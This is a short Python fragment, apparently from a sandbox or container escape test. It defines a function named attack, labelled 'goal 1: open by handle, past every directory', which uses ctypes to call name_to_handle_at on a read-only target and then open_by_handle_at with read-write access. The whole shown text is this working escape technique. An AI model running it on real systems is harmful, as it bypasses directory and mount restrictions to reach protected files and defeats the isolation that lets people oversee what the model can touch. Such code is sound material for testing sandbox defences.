# goal 1: open by handle, past every directory
def attack():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    return first(
        lambda: call("name_to_handle_at", -100, RO.encode(), handle, ctypes.byref(mount), 0),
        lambda: call("open_by_handle_at", os.open(".", os.O_RDONLY), handle, os.O_RDWR),
    )
